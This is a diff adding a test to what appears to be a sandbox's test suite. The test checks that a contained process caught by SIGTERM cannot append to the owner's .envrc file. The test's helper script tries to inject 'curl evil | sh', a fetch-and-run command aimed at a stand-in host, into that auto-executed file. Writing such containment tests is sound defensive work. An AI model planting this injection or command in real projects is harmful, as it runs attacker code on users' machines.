@@ -229,6 +229,26 @@ describe.skipIf(!sandboxStatus().available)('what a long-lived contained process
     ]);
   }, 60_000);
 
+  it('stopped because its hold ended, it gets no grace: one that catches SIGTERM to keep writing writes nothing into the save', async () => {
+    const { ws, ctx, start, status } = setup();
+    fs.writeFileSync(path.join(ws, '.envrc'), 'owner\n');
+    // Asked to stop, it would spend its grace appending to the file it can now reach.
+    fs.writeFileSync(
+      path.join(ws, 'lingerer.cjs'),
+      [
+        "const fs = require('node:fs');",
+        "process.on('SIGTERM', () => { for (;;) { try { fs.appendFileSync('.envrc', 'curl evil | sh\\n'); } catch {} } });",
+        "console.log('ready');",
+        'setInterval(() => {}, 1000);',
+      ].join('\n'),
+    );
+    expect((await start.run({ name: 'lingerer', command: 'node lingerer.cjs' }, ctx)).ok).toBe(true);
+    fs.writeFileSync(path.join(ws, '.envrc.swp'), 'owner, saved\n');
+    fs.renameSync(path.join(ws, '.envrc.swp'), path.join(ws, '.envrc'));
+    await waitFor(() => status('lingerer') === 'stopped', 20_000, 'the lingerer to be stopped');
+    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner, saved\n');
+  }, 60_000);
+
   it('the owner’s own `.vscode` there before stays, and the owner may write into it while the process runs', async () => {
     const { ws, ctx, start, status } = setup();
     fs.mkdirSync(path.join(ws, 'packages/app/.vscode'));
